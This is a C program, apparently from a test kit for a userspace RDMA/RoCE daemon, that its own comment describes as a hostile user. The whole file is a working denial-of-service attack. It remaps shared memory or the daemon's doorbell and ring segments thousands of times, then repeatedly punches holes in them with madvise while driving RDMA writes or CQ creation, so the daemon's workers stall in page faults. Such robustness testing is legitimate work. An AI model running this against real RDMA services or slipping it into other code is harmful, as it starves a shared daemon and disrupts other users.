/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A hostile user who makes the daemon's workers wait in page faults: it punches holes into memory
 * that it shares with the daemon, again and again, and has mapped this memory so often that each
 * hole takes the kernel long. A queue pair connected to itself makes the worker use the memory.
 *
 *   punch DEVICE region|doorbells|rings
 *
 * region: a registered memfd. doorbells: the segment of the context's doorbells, which workers look
 * at all the time. rings: the segment of its rings, which the control thread clears when it creates
 * a CQ. Prints "attacks" when it begins, and goes on until it is killed.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "kit/program.h"
#include "kit/verbside.h"

#define MAPPINGS  20000 /* below vm.max_map_count */
#define REGION    65536
#define WRITE     16384
#define SEGMENTS  16
#define DOORBELLS (1 << 20) /* the segment of the doorbells is smaller, others are not */

static struct side side;
static struct {
	uint8_t *at;
	size_t bytes;
} punched[SEGMENTS];
static unsigned npunched;

static void
punch_add(uint8_t *at, size_t bytes)
{
	if (npunched == SEGMENTS)
		return;
	punched[npunched].at = at;
	punched[npunched++].bytes = bytes;
}

static struct ibv_mr *
region_make(void)
{
	int fd = memfd_create("punched", MFD_CLOEXEC);
	uint8_t *at = MAP_FAILED;

	if (fd >= 0 && ftruncate(fd, REGION) == 0)
		at = mmap(NULL, REGION, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (at == MAP_FAILED)
		die("no region: %m");
	memset(at, 1, REGION);
	punch_add(at, REGION);
	return ibv_reg_mr(side.pd, at, REGION, SIDE_ACCESS);
}

/* The provider's mappings of the doorbells, or of rings. */
static void
segments_find(bool doorbells)
{
	FILE *maps = fopen("/proc/self/maps", "re");
	unsigned long from, to;
	char line[512];

	while (maps != NULL && fgets(line, sizeof(line), maps) != NULL) {
		if (strstr(line, " rw-s ") != NULL && strstr(line, "uroce-segment") != NULL &&
		    sscanf(line, "%lx-%lx", &from, &to) == 2 &&
		    (to - from < DOORBELLS) == doorbells)
			punch_add((uint8_t *)from, to - from);
	}
	if (npunched == 0)
		die("no mapping of a ring's segment was found");
	fclose(maps);
}

/* Maps the memory again and again. Each mapping has a page, which a hole takes away. */
static void
mappings_make(void)
{
	for (unsigned i = 0; i < MAPPINGS; i++) {
		unsigned k = i % npunched;
		volatile uint8_t *again =
			mremap(punched[k].at, 0, punched[k].bytes, MREMAP_MAYMOVE);

		if (again == MAP_FAILED)
			die("mapping %u: %m", i);
		(void)again[0];
	}
}

static void *
punch_main(void *arg)
{
	for (unsigned k = 0;; k = (k + 1) % npunched) {
		if (madvise(punched[k].at, punched[k].bytes, MADV_REMOVE) != 0)
			die("no hole: %m");
	}
	return NULL;
}

/* Keeps WRITEs within mr in flight, while they succeed. */
static void
write_on(struct ibv_qp *qp, const struct ibv_mr *mr)
{
	struct ibv_sge sge = {(uintptr_t)mr->addr, WRITE, mr->lkey};
	struct ibv_send_wr *bad, wr = {.sg_list = &sge,
				       .num_sge = 1,
				       .opcode = IBV_WR_RDMA_WRITE,
				       .send_flags = IBV_SEND_SIGNALED};
	struct ibv_wc wc;
	int posted = 0, n;

	wr.wr.rdma.remote_addr = sge.addr + WRITE;
	wr.wr.rdma.rkey = mr->rkey;
	for (;;) {
		for (; posted < SIDE_DEPTH && ibv_post_send(qp, &wr, &bad) == 0; posted++)
			;
		n = ibv_poll_cq(side.cq, 1, &wc);
		posted -= n > 0 ? n : 0;
		if (n == 0)
			usleep(10);
	}
}

/* Creates and destroys CQs. */
static void
create_on(void)
{
	for (;;) {
		struct ibv_cq *cq = ibv_create_cq(side.ctx, 64, NULL, NULL, 0);

		if (cq == NULL || ibv_destroy_cq(cq) != 0)
			die("no CQ: %m");
	}
}

int
main(int argc, char **argv)
{
	bool region = argc == 3 && strcmp(argv[2], "region") == 0;
	bool rings = argc == 3 && strcmp(argv[2], "rings") == 0;
	struct ibv_mr *mr;
	struct ibv_qp *qp;
	pthread_t t;

	if (argc != 3)
		die("usage: punch DEVICE region|doorbells|rings");
	side_open(&side, argv[1]);
	mr = region ? region_make() : side.mr;
	qp = side_qp(side.pd, IBV_QPT_RC, side.cq);
	if (mr == NULL || qp == NULL || side_raise(&side, qp, qp->qp_num) != 0)
		die("no queue pair: %m");
	if (!region)
		segments_find(!rings);
	mappings_make();
	if (pthread_create(&t, NULL, punch_main, NULL) != 0)
		die("no thread");
	puts("attacks");
	fflush(stdout);
	if (rings)
		create_on();
	write_on(qp, mr);
}
